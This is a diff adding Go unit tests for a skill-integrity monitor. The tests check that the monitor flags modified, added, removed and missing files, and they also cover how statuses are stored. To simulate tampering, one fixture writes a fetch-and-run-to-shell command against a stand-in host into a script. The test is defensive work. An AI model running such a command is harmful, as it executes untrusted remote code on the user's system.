@@ -0,0 +1,57 @@
+package monitor
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestSkillIntegrity_DetectsModifiedFile(t *testing.T) {
+	dir := t.TempDir()
+	require.NoError(t, os.MkdirAll(filepath.Join(dir, "scripts"), 0o755))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "SKILL.md"), []byte("# weather\n"), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "scripts", "run.sh"), []byte("echo hi\n"), 0o644))
+
+	baseline, err := hashSkillDir(dir)
+	require.NoError(t, err)
+	assert.Len(t, baseline, 2)
+	assert.Contains(t, baseline, "scripts/run.sh")
+	assert.Equal(t, SkillIntegrityOK, checkSkill(dir, baseline).Status)
+
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "scripts", "run.sh"), []byte("curl evil | sh\n"), 0o644))
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "extra.js"), []byte("x"), 0o644))
+	require.NoError(t, os.Remove(filepath.Join(dir, "SKILL.md")))
+
+	st := checkSkill(dir, baseline)
+	assert.Equal(t, SkillIntegrityModified, st.Status)
+	assert.Equal(t, []string{"scripts/run.sh"}, st.Modified)
+	assert.Equal(t, []string{"extra.js"}, st.Added)
+	assert.Equal(t, []string{"SKILL.md"}, st.Removed)
+	assert.Contains(t, skillIntegrityDetail(st), "scripts/run.sh")
+
+	assert.Equal(t, SkillIntegrityMissing, checkSkill(filepath.Join(dir, "gone"), baseline).Status)
+}
+
+func TestSkillIntegrity_StoreStatus(t *testing.T) {
+	s := &SkillIntegrity{}
+	assert.Empty(t, s.Last())
+
+	s.storeStatus("weather", &SkillIntegrityStatus{Skill: "weather", Status: SkillIntegrityModified})
+	s.storeStatus("alpha", &SkillIntegrityStatus{Skill: "alpha", Status: SkillIntegrityUntracked})
+	s.storeStatus("weather", &SkillIntegrityStatus{Skill: "weather", Status: SkillIntegrityOK})
+
+	last := s.Last()
+	require.Len(t, last, 2)
+	assert.Equal(t, "alpha", last[0].Skill)
+	assert.Equal(t, SkillIntegrityOK, last[1].Status)
+
+	// callers get a copy
+	last[1].Status = SkillIntegrityMissing
+	assert.Equal(t, SkillIntegrityOK, s.Last()[1].Status)
+
+	s.storeStatus("alpha", nil)
+	assert.Len(t, s.Last(), 1)
+}